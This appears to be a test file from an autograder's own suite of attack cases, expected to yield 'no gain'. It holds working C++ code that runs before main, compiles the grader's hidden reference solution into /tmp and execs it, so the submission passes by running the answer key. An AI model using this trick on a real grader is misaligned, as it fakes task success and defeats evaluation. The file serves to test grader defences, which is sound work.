# Exercise: all
# Attack: gradescope/build_from_source
# Rule: no gain
# Why: the autograder's source folder holds every reference solution and the tests; the program compiles the reference with them at run time (once, into /tmp) and execs it.
. "$ROOT/tests/grader/attacks/lib/takeover.sh"
takeover "$1" "$2" "$3" @AUTOGRADER@ <<'CODE'
__attribute__((constructor)) static void attack_start() {
    if (std::getenv("ATTACK_BECAME")) return;
    struct stat st;  // one build per copy of the source: its exercise file's size and time
    const std::string mine = std::string(ATTACK_AUTOGRADER) + "/source/" + ATTACK_EXERCISE;
    const std::string key = stat(mine.c_str(), &st) == 0 ? std::to_string(st.st_size) + "-" + std::to_string(st.st_mtime) : "0";
    const std::string built = std::string("/tmp/.attack-reference-") + ATTACK_ID + "-" + std::to_string(getuid()) + "-" + key;
    if (access(built.c_str(), X_OK) != 0) {
        for (std::string source : {std::string(ATTACK_AUTOGRADER) + "/source", std::string("/autograder/source")}) {
            const std::string exercise = source + "/" + ATTACK_EXERCISE, dir = exercise.substr(0, exercise.rfind('/'));
            if (access(exercise.c_str(), R_OK) != 0) continue;
            const std::string command = "cd '" + source + "' && g++ -std=c++17 -O1 -Icommon -Itests/grader -I'" + dir +
                                        "' -I'" + dir + "/..' -DSTUDENT_SOURCE='\"" + exercise + "\"' tests/grader/" +
                                        ATTACK_ID + ".cpp -o '" + built + ".tmp' -pthread > /dev/null 2>&1 && mv '" +
                                        built + ".tmp' '" + built + "'";
            if (std::system(command.c_str()) == 0) break;
        }
    }
    if (access(built.c_str(), X_OK) == 0) attack::become(built);
}
CODE
